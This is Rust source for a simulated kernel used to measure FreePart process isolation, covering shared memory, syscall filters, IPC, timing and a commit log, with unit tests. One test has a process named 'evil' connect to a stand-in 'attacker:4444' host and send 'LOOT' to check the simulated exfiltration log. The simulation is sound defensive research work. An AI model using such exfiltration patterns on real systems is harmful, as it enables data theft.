    /// and `pid` is crashed — the fault FreePart's temporal grants are
    /// designed to induce.
    pub fn shm_write(&mut self, pid: Pid, id: ShmId, bytes: &[u8]) -> SimResult<()> {
        self.do_step(CommitOp::ShmWrite {
            pid,
            id,
            bytes: bytes.to_vec(),
        })?;
        Ok(())
    }

    /// Destroys segment `id`, dropping payload and all grants. Returns
    /// whether the segment existed.
    pub fn shm_destroy(&mut self, id: ShmId) -> bool {
        match self.do_step(CommitOp::ShmDestroy { id }) {
            Ok(StepValue::Flag(existed)) => existed,
            _ => unreachable!("shm_destroy is infallible"),
        }
    }

    // ------------------------------------------------------------------
    // Filters and syscalls
    // ------------------------------------------------------------------

    /// Installs (or replaces) the seccomp-style filter on `pid`.
    ///
    /// # Errors
    ///
    /// `EPERM` once the process has set `PR_SET_NO_NEW_PRIVS` — the lock
    /// that stops a compromised agent from relaxing its own sandbox.
    pub fn install_filter(&mut self, pid: Pid, filter: SyscallFilter) -> SimResult<()> {
        self.do_step(CommitOp::InstallFilter { pid, filter })?;
        Ok(())
    }

    /// Executes one syscall on behalf of `pid`.
    ///
    /// The caller's filter is consulted first; a denied call kills the
    /// process (`SIGSYS`) and returns the fault. Allowed calls charge
    /// [`CostModel::syscall_ns`](crate::cost::CostModel) plus
    /// operation-specific costs and then dispatch to the file system /
    /// devices / memory manager.
    ///
    /// # Errors
    ///
    /// [`SimError::Errno`](crate::error::SimError::Errno) for ordinary
    /// failures; [`SimError::Fault`](crate::error::SimError::Fault) when
    /// the filter killed the process.
    pub fn syscall(&mut self, pid: Pid, call: Syscall) -> SimResult<SyscallRet> {
        match self.do_step(CommitOp::Syscall { pid, call })? {
            StepValue::Ret(ret) => Ok(ret),
            _ => unreachable!("syscall returns a SyscallRet"),
        }
    }

    // ------------------------------------------------------------------
    // IPC
    // ------------------------------------------------------------------

    /// Creates a shared-memory ring channel between two processes.
    ///
    /// # Errors
    ///
    /// Fails when either endpoint is unknown or dead.
    pub fn create_channel(
        &mut self,
        a: Pid,
        b: Pid,
        capacity_bytes: usize,
    ) -> SimResult<ChannelId> {
        match self.do_step(CommitOp::CreateChannel {
            a,
            b,
            capacity: capacity_bytes,
        })? {
            StepValue::Chan(id) => Ok(id),
            _ => unreachable!("create_channel returns a channel id"),
        }
    }

    /// Sends `payload` from `pid` over `chan`, charging the IPC round
    /// trip setup plus per-byte copy cost. The frame is stamped with the
    /// sender's virtual time *after* those charges, so a receiver on its
    /// own timeline can merge against the true completion of the send.
    ///
    /// # Errors
    ///
    /// `ENOSPC` when the ring is full,
    /// [`SimError::BadChannel`](crate::error::SimError::BadChannel) for
    /// an unknown channel or non-endpoint sender.
    pub fn ipc_send(&mut self, pid: Pid, chan: ChannelId, payload: &[u8]) -> SimResult<()> {
        self.do_step(CommitOp::IpcSend {
            pid,
            chan,
            payload: payload.to_vec(),
        })?;
        Ok(())
    }

    /// Receives the next message for `pid` on `chan`, if any. Under
    /// per-process time this applies the happens-before merge first:
    /// `recv = max(recv, frame.send_ns)`, then the delivery latency.
    ///
    /// # Errors
    ///
    /// [`SimError::BadChannel`](crate::error::SimError::BadChannel) for
    /// an unknown channel or non-endpoint receiver.
    pub fn ipc_recv(&mut self, pid: Pid, chan: ChannelId) -> SimResult<Option<Vec<u8>>> {
        match self.do_step(CommitOp::IpcRecv { pid, chan })? {
            StepValue::PayloadOpt(payload) => Ok(payload),
            _ => unreachable!("ipc_recv returns an optional payload"),
        }
    }

    /// Re-binds a channel's B endpoint after an agent restart.
    ///
    /// # Errors
    ///
    /// [`SimError::BadChannel`](crate::error::SimError::BadChannel) for
    /// an unknown channel.
    pub fn rebind_channel(&mut self, chan: ChannelId, new_b: Pid) -> SimResult<()> {
        self.do_step(CommitOp::RebindChannel { chan, new_b })?;
        Ok(())
    }

    // ------------------------------------------------------------------
    // Accounting
    // ------------------------------------------------------------------

    /// Charges raw virtual time (transport penalties, modeled stalls)
    /// to the current time context.
    pub fn charge_time(&mut self, ns: u64) {
        let _ = self.do_step(CommitOp::ChargeTime { ns });
    }

    /// Records a direct cross-address-space deep copy of `bytes` bytes
    /// (object marshalling / lazy-data-copy transfers), charged to the
    /// current time context.
    pub fn charge_copy(&mut self, bytes: u64) {
        let _ = self.do_step(CommitOp::ChargeCopy { bytes });
    }

    /// Charges `units` of framework compute to `pid`.
    pub fn charge_compute(&mut self, pid: Pid, units: u64) {
        let _ = self.do_step(CommitOp::ChargeCompute { pid, units });
    }

    /// Records `n` hooked calls delivered inside one batched IPC frame.
    /// Frames themselves are counted by [`Kernel::ipc_send`]; this
    /// counter keeps the per-call denominator honest when N calls share
    /// a frame.
    pub fn note_calls_batched(&mut self, n: u64) {
        let _ = self.do_step(CommitOp::NoteCallsBatched { n });
    }

    /// Records `bytes` of snapshot payload actually copied (a dirty
    /// object). Snapshot reads are already uncharged in virtual time;
    /// these counters exist so incremental snapshots are measurable.
    pub fn note_snapshot_copy(&mut self, bytes: u64) {
        let _ = self.do_step(CommitOp::NoteSnapshotCopy { bytes });
    }

    /// Records one stateful object a snapshot round proved clean via
    /// write epochs and skipped.
    pub fn note_snapshot_skip(&mut self) {
        let _ = self.do_step(CommitOp::NoteSnapshotSkip);
    }

    /// Resets clock, per-process timelines, and counters (not
    /// processes) between measurements.
    pub fn reset_accounting(&mut self) {
        let _ = self.do_step(CommitOp::ResetAccounting);
    }

    // ------------------------------------------------------------------
    // Logged harness/supervisor entry points
    // ------------------------------------------------------------------
    //
    // These exist so every state mutation the FreePart runtime or the
    // workload harness performs flows through a recordable kernel call
    // instead of poking public fields — a prerequisite for deterministic
    // replay.

    /// Creates or replaces a file (harness-side seeding; bypasses
    /// syscalls but is still a kernel state transition).
    pub fn fs_put(&mut self, path: &str, bytes: Vec<u8>) {
        let _ = self.do_step(CommitOp::FsPut {
            path: path.to_owned(),
            bytes,
        });
    }

    /// Attaches a deterministic camera producing `frame_len`-byte frames
    /// seeded from `seed` (replacing any previous camera).
    pub fn attach_camera(&mut self, seed: u64, frame_len: usize) {
        let _ = self.do_step(CommitOp::AttachCamera { seed, frame_len });
    }

    // ------------------------------------------------------------------
    // Logged GUI entry points
    // ------------------------------------------------------------------

    /// Creates a GUI window (the kernel-mediated `namedWindow`).
    pub fn win_create(&mut self, title: &str) -> WindowId {
        match self.do_step(CommitOp::WinCreate {
            title: title.to_owned(),
        }) {
            Ok(StepValue::Win(id)) => id,
            _ => unreachable!("win_create is infallible"),
        }
    }

    /// Presents `frame_len` bytes to `win`; false if the window is gone.
    pub fn win_present(&mut self, win: WindowId, frame_len: usize) -> bool {
        match self.do_step(CommitOp::WinPresent { win, frame_len }) {
            Ok(StepValue::Flag(ok)) => ok,
            _ => unreachable!("win_present is infallible"),
        }
    }

    /// Destroys every GUI window (`destroyAllWindows`).
    pub fn win_destroy_all(&mut self) {
        let _ = self.do_step(CommitOp::WinDestroyAll);
    }

    /// Polls one key press off the GUI input queue (`pollKey`).
    pub fn win_poll_key(&mut self) -> Option<u8> {
        match self.do_step(CommitOp::WinPollKey) {
            Ok(StepValue::KeyOpt(key)) => key,
            _ => unreachable!("win_poll_key is infallible"),
        }
    }

    /// Queues a synthetic key press (workload input).
    pub fn push_key(&mut self, key: u8) {
        let _ = self.do_step(CommitOp::PushKey { key });
    }
}

impl std::fmt::Debug for Kernel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Kernel")
            .field("procs", &self.state.process_count())
            .field("channels", &self.state.channels.len())
            .field("clock_ns", &self.state.clock.now_ns())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::syscall::SyscallNo;
    use crate::{Camera, Errno, Metrics, SimError, PAGE_SIZE};

    #[test]
    fn spawn_and_alloc_isolated_address_spaces() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let addr = k.alloc(a, 16, Perms::RW).unwrap();
        k.mem_write(a, addr, b"private").unwrap();
        // Same numeric address in b is unmapped — isolation.
        let err = k.mem_read(b, addr, 7).unwrap_err();
        assert!(err.is_fault());
        assert!(!k.is_running(b), "wild read crashed b");
        assert!(k.is_running(a));
    }

    #[test]
    fn readonly_page_write_crashes_writer() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        let addr = k.alloc(p, 8, Perms::RW).unwrap();
        k.protect(p, addr, 8, Perms::R).unwrap();
        let err = k.mem_write(p, addr, b"x").unwrap_err();
        assert_eq!(err.as_fault().unwrap().kind, FaultKind::Protection);
        assert!(!k.is_running(p));
        assert_eq!(k.metrics().faults, 1);
    }

    #[test]
    fn filter_denial_kills_process() {
        let mut k = Kernel::new();
        let p = k.spawn("agent");
        k.install_filter(p, SyscallFilter::allowing([SyscallNo::Getpid]))
            .unwrap();
        assert!(k.syscall(p, Syscall::Getpid).is_ok());
        let err = k.syscall(p, Syscall::Fork).unwrap_err();
        assert!(matches!(
            err.as_fault().unwrap().kind,
            FaultKind::SyscallDenied(SyscallNo::Fork)
        ));
        assert!(!k.is_running(p));
        assert_eq!(k.metrics().filter_kills, 1);
    }

    #[test]
    fn no_new_privs_locks_filter_reconfiguration() {
        let mut k = Kernel::new();
        let p = k.spawn("agent");
        k.install_filter(
            p,
            SyscallFilter::allowing([SyscallNo::Prctl, SyscallNo::Getpid]),
        )
        .unwrap();
        k.syscall(p, Syscall::PrctlNoNewPrivs).unwrap();
        // An attacker inside the process cannot swap the filter.
        let err = k
            .install_filter(p, SyscallFilter::allowing(SyscallNo::ALL.iter().copied()))
            .unwrap_err();
        assert_eq!(err, SimError::Errno(Errno::Eperm));
    }

    #[test]
    fn file_syscall_roundtrip() {
        let mut k = Kernel::new();
        let p = k.spawn("loader");
        k.fs.put("/in.png", vec![9, 8, 7]);
        let fd = k
            .syscall(
                p,
                Syscall::Openat {
                    path: "/in.png".into(),
                    create: false,
                },
            )
            .unwrap()
            .fd();
        let bytes = k.syscall(p, Syscall::Read { fd, len: 10 }).unwrap().bytes();
        assert_eq!(bytes, vec![9, 8, 7]);
        // Cursor advanced; next read is empty.
        let rest = k.syscall(p, Syscall::Read { fd, len: 10 }).unwrap().bytes();
        assert!(rest.is_empty());
    }

    #[test]
    fn socket_send_reaches_network_log() {
        let mut k = Kernel::new();
        let p = k.spawn("evil");
        let fd = k.syscall(p, Syscall::Socket).unwrap().fd();
        k.syscall(
            p,
            Syscall::Connect {
                fd,
                dest: "attacker:4444".into(),
            },
        )
        .unwrap();
        k.syscall(
            p,
            Syscall::Send {
                fd,
                bytes: b"LOOT".to_vec(),
            },
        )
        .unwrap();
        assert!(k.network.leaked(b"LOOT"));
    }

    #[test]
    fn camera_read_serves_frames() {
        let mut k = Kernel::new();
        k.camera = Some(Camera::new(1, 32));
        let p = k.spawn("cap");
        let fd = k
            .syscall(
                p,
                Syscall::Openat {
                    path: "/dev/video0".into(),
                    create: false,
                },
            )
            .unwrap()
            .fd();
        let frame = k.syscall(p, Syscall::Read { fd, len: 0 }).unwrap().bytes();
        assert_eq!(frame.len(), 32);
    }

    #[test]
    fn ipc_roundtrip_counts_metrics_and_time() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let ch = k.create_channel(a, b, 1 << 20).unwrap();
        let t0 = k.clock().now_ns();
        k.ipc_send(a, ch, b"request").unwrap();
        let msg = k.ipc_recv(b, ch).unwrap().unwrap();
        assert_eq!(msg, b"request");
        assert!(k.clock().now_ns() > t0);
        assert_eq!(k.metrics().ipc_messages, 1);
        assert_eq!(k.metrics().ipc_bytes, 7);
        assert_eq!(k.ipc_recv(b, ch).unwrap(), None);
    }

    #[test]
    fn dead_process_cannot_syscall() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        k.syscall(p, Syscall::Exit { code: 0 }).unwrap();
        assert!(matches!(
            k.syscall(p, Syscall::Getpid),
            Err(SimError::ProcessDead(_))
        ));
    }

    #[test]
    fn mprotect_syscall_counts_pages() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        let addr = k.alloc(p, 3 * PAGE_SIZE, Perms::RW).unwrap();
        let pages = k
            .syscall(
                p,
                Syscall::Mprotect {
                    addr,
                    len: 3 * PAGE_SIZE,
                    perms: Perms::R,
                },
            )
            .unwrap()
            .num();
        assert_eq!(pages, 3);
        assert_eq!(k.metrics().protected_pages, 3);
    }

    #[test]
    fn kill_syscall_crashes_target() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        k.syscall(a, Syscall::Kill { target_pid: b.0 }).unwrap();
        assert!(!k.is_running(b));
    }

    #[test]
    fn charge_copy_and_compute_advance_clock() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        let t0 = k.clock().now_ns();
        k.charge_copy(4096);
        k.charge_compute(p, 1000);
        assert!(k.clock().now_ns() > t0);
        assert_eq!(k.metrics().copied_bytes, 4096);
        assert_eq!(k.metrics().copy_ops, 1);
        assert!(k.process(p).unwrap().cpu_ns > 0);
    }

    #[test]
    fn reset_accounting_clears_clock_and_metrics() {
        let mut k = Kernel::new();
        let p = k.spawn("p");
        k.charge_compute(p, 10);
        k.reset_accounting();
        assert_eq!(k.clock().now_ns(), 0);
        assert_eq!(k.metrics(), Metrics::new());
    }

    #[test]
    fn per_process_time_overlaps_independent_work() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        k.enable_per_process_time();
        k.reset_accounting();
        // Independent compute on two processes overlaps: the makespan is
        // the max, not the sum.
        k.charge_compute(a, 100);
        k.charge_compute(b, 300);
        let unit = k.cost_model().compute_ns_per_unit;
        assert_eq!(k.timeline_ns(a), 100 * unit);
        assert_eq!(k.timeline_ns(b), 300 * unit);
        assert_eq!(k.makespan_ns(), 300 * unit);
    }

    #[test]
    fn message_delivery_merges_receiver_past_sender() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let ch = k.create_channel(a, b, 1 << 20).unwrap();
        k.enable_per_process_time();
        k.reset_accounting();
        k.charge_compute(a, 1_000); // a is far ahead of b
        let a_ns = k.timeline_ns(a);
        k.ipc_send(a, ch, b"m").unwrap();
        let send_done = k.timeline_ns(a);
        assert!(send_done > a_ns);
        // b was at 0; delivery drags it past a's send completion.
        k.ipc_recv(b, ch).unwrap().unwrap();
        assert_eq!(
            k.timeline_ns(b),
            send_done + k.cost_model().ipc_latency_ns()
        );
        assert_eq!(k.metrics().timeline_merges, 1);
    }

    #[test]
    fn delivery_to_a_busy_receiver_does_not_rewind() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let ch = k.create_channel(a, b, 1 << 20).unwrap();
        k.enable_per_process_time();
        k.reset_accounting();
        k.ipc_send(a, ch, b"m").unwrap();
        k.charge_compute(b, 10_000); // b is already past the send time
        let b_ns = k.timeline_ns(b);
        k.ipc_recv(b, ch).unwrap().unwrap();
        assert_eq!(k.timeline_ns(b), b_ns + k.cost_model().ipc_latency_ns());
        assert_eq!(k.metrics().timeline_merges, 0);
    }

    #[test]
    fn advance_timeline_is_monotone_and_counted() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        k.enable_per_process_time();
        k.reset_accounting();
        k.advance_timeline_to(a, 5_000);
        assert_eq!(k.timeline_ns(a), 5_000);
        k.advance_timeline_to(a, 4_000); // already past: no-op
        assert_eq!(k.timeline_ns(a), 5_000);
        assert_eq!(k.metrics().timeline_merges, 1);
    }

    #[test]
    fn global_mode_ignores_timeline_helpers() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let before = k.now_ns();
        k.advance_timeline_to(a, before + 9_999_999);
        assert_eq!(k.now_ns(), before);
        assert_eq!(k.makespan_ns(), before);
        assert_eq!(k.timeline_ns(a), before);
    }

    #[test]
    fn spawn_under_per_process_time_seeds_child_at_spawner_time() {
        let mut k = Kernel::new();
        let host = k.spawn("host");
        k.enable_per_process_time();
        k.reset_accounting();
        k.charge_compute(host, 500);
        k.set_time_context(Some(host));
        let child = k.spawn("child");
        k.set_time_context(None);
        assert_eq!(k.timeline_ns(child), k.timeline_ns(host));
        assert!(k.timeline_ns(child) >= k.cost_model().spawn_ns);
    }

    #[test]
    fn shm_grant_map_read_write_roundtrip() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![7; 5000]).unwrap();
        assert_eq!(k.shm_read(a, id).unwrap(), vec![7; 5000]);

        // b has no grant yet: the read is a protection fault that kills b.
        assert!(k.shm_read(b, id).unwrap_err().is_fault());
        assert!(!k.is_running(b));
        assert_eq!(k.metrics().faults, 1);

        let c = k.spawn("c");
        k.shm_grant(id, c, Perms::RW).unwrap();
        assert_eq!(k.shm_map(c, id).unwrap(), 5000);
        k.shm_write(c, id, &[9; 5000]).unwrap();
        assert_eq!(k.shm_read(a, id).unwrap(), vec![9; 5000]);
        // Two owners-worth of mappings counted, zero bytes copied.
        assert_eq!(k.metrics().shm_grants, 2);
        assert_eq!(k.metrics().shm_mapped_bytes, 10_000);
        assert_eq!(k.metrics().copied_bytes, 0);
    }

    #[test]
    fn shm_revoke_makes_stale_access_fault() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![1; 100]).unwrap();
        k.shm_grant(id, b, Perms::R).unwrap();
        k.shm_map(b, id).unwrap();
        assert_eq!(k.shm_read(b, id).unwrap(), vec![1; 100]);

        assert!(k.shm_revoke(id, b).unwrap());
        assert!(!k.shm_revoke(id, b).unwrap(), "second revoke is a no-op");
        assert_eq!(k.metrics().shm_revokes, 1);
        // The stale consumer faults; the payload and owner are untouched.
        assert!(k.shm_read(b, id).unwrap_err().is_fault());
        assert!(!k.is_running(b));
        assert!(k.is_running(a));
        assert_eq!(k.shm_read(a, id).unwrap(), vec![1; 100]);
    }

    #[test]
    fn shm_protect_all_downgrades_every_grant() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let id = k.shm_create(a, vec![2; 4096]).unwrap();
        let pages_before = k.metrics().protected_pages;
        assert_eq!(k.shm_protect_all(id, Perms::R).unwrap(), 1);
        assert_eq!(k.metrics().protected_pages, pages_before + 1);
        // Reads still work; a write now faults (temporal lock semantics).
        assert_eq!(k.shm_read(a, id).unwrap().len(), 4096);
        assert!(k.shm_write(a, id, &[0; 4096]).unwrap_err().is_fault());
        assert!(!k.is_running(a));
    }

    #[test]
    fn shm_segment_survives_owner_crash() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![3; 64]).unwrap();
        k.shm_grant(id, b, Perms::R).unwrap();
        k.shm_map(b, id).unwrap();
        k.deliver_fault(a, FaultKind::Abort, None);
        // Kernel-owned payload outlives the process that created it.
        assert_eq!(k.shm_read(b, id).unwrap(), vec![3; 64]);
    }

    #[test]
    fn shm_mapping_is_cheaper_than_copying() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        let id = k.shm_create(a, vec![0; 64 * 1024]).unwrap();
        let t0 = k.now_ns();
        k.shm_grant(id, b, Perms::R).unwrap();
        k.shm_map(b, id).unwrap();
        let mapped_ns = k.now_ns() - t0;
        assert!(mapped_ns < k.cost_model().copy_cost(64 * 1024));
    }

    #[test]
    fn reap_frees_pages_and_purges_shm_views() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        k.alloc(a, 3 * PAGE_SIZE, Perms::RW).unwrap();
        let id = k.shm_create(a, vec![7; 64]).unwrap();
        k.shm_grant(id, b, Perms::R).unwrap();
        let before = k.total_pages();
        k.deliver_fault(a, FaultKind::Abort, None);
        let freed = k.reap(a).unwrap();
        assert_eq!(freed, 3);
        assert_eq!(k.total_pages(), before - 3);
        assert_eq!(k.metrics().reaps, 1);
        // The corpse's views are gone; the segment and b's grant survive.
        let seg = k.shm_segment(id).unwrap();
        assert_eq!(seg.grant_of(a), None);
        assert!(!seg.is_mapped(a));
        assert_eq!(seg.grant_of(b), Some(Perms::R));
        // Double reap is an error, not a silent no-op.
        assert!(matches!(k.reap(a), Err(SimError::NoSuchProcess(_))));
    }

    #[test]
    fn reap_refuses_a_running_process() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        assert!(matches!(k.reap(a), Err(SimError::Errno(Errno::Eperm))));
        assert!(k.is_running(a));
    }

    #[test]
    fn write_epochs_change_only_on_writes() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let addr = k.alloc(a, 2 * PAGE_SIZE, Perms::RW).unwrap();
        let e0 = k.write_epoch(a, addr, 2 * PAGE_SIZE).unwrap();
        // Reads and protection flips leave the epoch alone.
        k.mem_read(a, addr, 16).unwrap();
        k.protect(a, addr, 2 * PAGE_SIZE, Perms::R).unwrap();
        k.protect(a, addr, 2 * PAGE_SIZE, Perms::RW).unwrap();
        assert_eq!(k.write_epoch(a, addr, 2 * PAGE_SIZE).unwrap(), e0);
        // A write to the second page bumps the range epoch but not the
        // first page's own epoch.
        let p1 = k.write_epoch(a, addr, PAGE_SIZE).unwrap();
        k.mem_write(a, Addr(addr.0 + PAGE_SIZE), &[9; 8]).unwrap();
        assert!(k.write_epoch(a, addr, 2 * PAGE_SIZE).unwrap() > e0);
        assert_eq!(k.write_epoch(a, addr, PAGE_SIZE).unwrap(), p1);
        // Unmapped ranges and dead processes have no epoch.
        assert_eq!(k.write_epoch(a, Addr(addr.0 + 64 * PAGE_SIZE), 1), None);
        k.deliver_fault(a, FaultKind::Abort, None);
        assert_eq!(k.write_epoch(a, addr, PAGE_SIZE), None);
    }

    #[test]
    fn shm_write_epoch_tracks_payload_replacement() {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let id = k.shm_create(a, vec![1; 128]).unwrap();
        let e0 = k.shm_segment(id).unwrap().write_epoch();
        k.shm_read(a, id).unwrap();
        assert_eq!(k.shm_segment(id).unwrap().write_epoch(), e0);
        k.shm_write(a, id, &[2; 128]).unwrap();
        assert!(k.shm_segment(id).unwrap().write_epoch() > e0);
    }
}
