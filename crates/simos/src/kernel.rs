//! The simulated kernel: the single authority every process goes through.
//!
//! [`Kernel`] owns all processes, the file system, devices, IPC channels,
//! the virtual clock, and the metrics counters. Its API is deliberately
//! shaped like the attack surface FreePart cares about:
//!
//! * [`Kernel::mem_read`] / [`Kernel::mem_write`] — all data access,
//!   checked against per-page permissions; violations crash the caller.
//! * [`Kernel::syscall`] — all kernel services, checked against the
//!   caller's seccomp-style filter; violations kill the caller.
//! * [`Kernel::install_filter`] — refused once `PR_SET_NO_NEW_PRIVS` is
//!   set, so a compromised agent cannot relax its own sandbox.
//! * [`Kernel::ipc_send`] / [`Kernel::ipc_recv`] — ring-buffer messaging
//!   with per-byte cost accounting.
//!
//! Everything advances one [`VirtualClock`] by default, making run
//! times deterministic and comparable across isolation schemes. For
//! pipelined execution the kernel can instead keep one timeline per
//! process ([`TimelineMode::PerProcess`]): each charge lands on the
//! acting process's clock, message delivery applies a happens-before
//! merge (`recv = max(recv, frame.send_ns)` plus delivery latency),
//! and the run's makespan is the max over all timelines.

use crate::commit::{self, CommitLog, CommitOp, CommitOutcome, OpSummary};
use crate::cost::{CostModel, VirtualClock};
use crate::device::{Camera, DeviceKind, Display, NetworkLog, WindowId};
use crate::error::{Errno, Fault, FaultKind, SimError, SimResult};
use crate::filter::{FilterDecision, SyscallFilter};
use crate::fs::SimFs;
use crate::ipc::{ChannelId, RingChannel, RingError};
use crate::mem::{Addr, Perms, PAGE_SIZE};
use crate::process::{FdTarget, Pid, ProcessState, SimProcess};
use crate::shm::{ShmId, ShmSegment};
use crate::syscall::{Syscall, SyscallRet};
use crate::Metrics;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::BTreeMap;

/// How virtual time flows through the kernel.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum TimelineMode {
    /// One global clock; every charge serializes (the classic model).
    #[default]
    Global,
    /// One [`VirtualClock`] per process, merged on message delivery.
    /// Concurrent work on different processes overlaps in virtual time;
    /// the run's makespan is [`Kernel::makespan_ns`].
    PerProcess,
}

/// The simulated operating system kernel.
///
/// See the [module docs](self) for the design; see the crate docs for a
/// usage example.
pub struct Kernel {
    procs: BTreeMap<Pid, SimProcess>,
    next_pid: u32,
    channels: BTreeMap<ChannelId, RingChannel>,
    next_channel: u32,
    /// The in-memory file system (public for harness seeding/inspection).
    pub fs: SimFs,
    /// Attached camera, if the workload uses one.
    pub camera: Option<Camera>,
    /// The GUI display subsystem.
    pub display: Display,
    /// Network egress log (exfiltration oracle).
    pub network: NetworkLog,
    clock: VirtualClock,
    mode: TimelineMode,
    /// Per-process timelines (populated in [`TimelineMode::PerProcess`]).
    timelines: BTreeMap<Pid, VirtualClock>,
    /// The process charged for pid-less costs (spawn, raw copies) under
    /// per-process time; `None` falls back to the global clock.
    time_ctx: Option<Pid>,
    cost: CostModel,
    metrics: Metrics,
    rng: StdRng,
    /// Kernel-owned shared-memory segments (see [`crate::shm`]).
    shm: BTreeMap<ShmId, ShmSegment>,
    next_shm: u64,
    /// The flight recorder, when enabled (see [`Kernel::enable_commit_log`]).
    commit: Option<CommitLog>,
    /// Reentrancy depth of public mutating entry points: only the
    /// outermost call records (e.g. `syscall` → `deliver_fault` must not
    /// log the nested fault separately).
    op_depth: u32,
}

impl Default for Kernel {
    fn default() -> Self {
        Self::new()
    }
}

impl Kernel {
    /// A fresh kernel with the default cost model and seed.
    pub fn new() -> Kernel {
        Kernel::with_cost_model(CostModel::default())
    }

    /// A fresh kernel with a custom cost model.
    pub fn with_cost_model(cost: CostModel) -> Kernel {
        Kernel {
            procs: BTreeMap::new(),
            next_pid: 1,
            channels: BTreeMap::new(),
            next_channel: 0,
            fs: SimFs::new(),
            camera: None,
            display: Display::new(),
            network: NetworkLog::new(),
            clock: VirtualClock::new(),
            mode: TimelineMode::Global,
            timelines: BTreeMap::new(),
            time_ctx: None,
            cost,
            metrics: Metrics::new(),
            rng: StdRng::seed_from_u64(0x5eed),
            shm: BTreeMap::new(),
            next_shm: 0,
            commit: None,
            op_depth: 0,
        }
    }

    // ------------------------------------------------------------------
    // Flight recorder
    // ------------------------------------------------------------------

    /// Turns on the commit log. Every state-mutating kernel transition
    /// from this point on appends one [`CommitRecord`] with a post-state
    /// digest, and the whole run becomes reproducible from the log alone
    /// via [`crate::replay::replay`].
    ///
    /// Recording must start from a pristine kernel (no processes,
    /// channels, segments, files, or elapsed time): replays rebuild
    /// genesis as `Kernel::with_cost_model(log.genesis())`, and the fixed
    /// rng seed makes two pristine kernels identical.
    ///
    /// # Panics
    ///
    /// Panics if any state has already been created.
    ///
    /// [`CommitRecord`]: crate::commit::CommitRecord
    pub fn enable_commit_log(&mut self) {
        assert!(
            self.procs.is_empty()
                && self.channels.is_empty()
                && self.shm.is_empty()
                && self.camera.is_none()
                && self.fs.file_count() == 0
                && self.clock.now_ns() == 0,
            "commit log must be enabled on a pristine kernel"
        );
        self.commit = Some(CommitLog::new(self.cost.clone()));
    }

    /// True when the flight recorder is on.
    pub fn recording(&self) -> bool {
        self.commit.is_some()
    }

    /// The commit log so far, if recording.
    pub fn commit_log(&self) -> Option<&CommitLog> {
        self.commit.as_ref()
    }

    /// Number of records committed so far (0 when not recording). Used
    /// by the runtime to correlate audit records with log positions.
    pub fn commit_len(&self) -> u64 {
        self.commit.as_ref().map_or(0, |l| l.len())
    }

    /// Detaches and returns the commit log, turning recording off.
    pub fn take_commit_log(&mut self) -> Option<CommitLog> {
        self.commit.take()
    }

    /// Marks entry into a public mutating entry point; true when this
    /// call is the outermost one and recording is on (i.e. the caller
    /// owns the record for whatever happens inside).
    fn commit_enter(&mut self) -> bool {
        self.op_depth += 1;
        self.op_depth == 1 && self.commit.is_some()
    }

    /// Marks exit from a public mutating entry point, appending the
    /// record when this call owned it (`op` is `Some`).
    fn commit_exit(&mut self, op: Option<CommitOp>, outcome: CommitOutcome) {
        self.op_depth -= 1;
        if let Some(op) = op {
            let digest = self.state_digest();
            if let Some(log) = self.commit.as_mut() {
                log.push(op, outcome, digest);
            }
        }
    }

    /// Digest of the complete observable kernel state: clocks and
    /// timelines, counters, every process (address-space fingerprint,
    /// state, filter, fd table), channels, segments and their grant
    /// tables, the file system, and devices. Two kernels that evolved
    /// through the same transition sequence report the same digest; the
    /// replayer compares this after every re-applied op.
    ///
    /// Large payloads (page data, files, segment bytes, ring traffic)
    /// enter through incrementally-maintained fingerprints, so a digest
    /// is O(processes + segments + channels), not O(memory).
    pub fn state_digest(&self) -> u64 {
        let mut h = commit::FINGERPRINT_SEED;
        h = commit::mix(h, self.clock.now_ns());
        h = commit::mix(
            h,
            match self.mode {
                TimelineMode::Global => 0,
                TimelineMode::PerProcess => 1,
            },
        );
        h = commit::mix(h, self.time_ctx.summary());
        h = commit::mix(h, self.timelines.len() as u64);
        for (pid, t) in &self.timelines {
            h = commit::mix(commit::mix(h, u64::from(pid.0)), t.now_ns());
        }
        h = commit::mix(h, self.metrics.fingerprint());
        h = commit::mix(h, u64::from(self.next_pid));
        h = commit::mix(h, u64::from(self.next_channel));
        h = commit::mix(h, self.next_shm);
        for (pid, p) in &self.procs {
            h = commit::mix(h, u64::from(pid.0));
            h = commit::mix(h, commit::hash_str(&p.name));
            h = match &p.state {
                ProcessState::Running => commit::mix(h, 1),
                ProcessState::Exited(code) => commit::mix(commit::mix(h, 2), *code as u64),
                ProcessState::Crashed(f) => commit::mix(commit::mix(h, 3), f.summary()),
            };
            h = commit::mix(h, u64::from(p.no_new_privs));
            h = commit::mix(h, p.cpu_ns);
            h = commit::mix(h, p.aspace.fingerprint());
            h = commit::mix(h, p.aspace.page_count() as u64);
            h = commit::mix(h, p.fd_table.len() as u64);
            for (fd, target) in &p.fd_table {
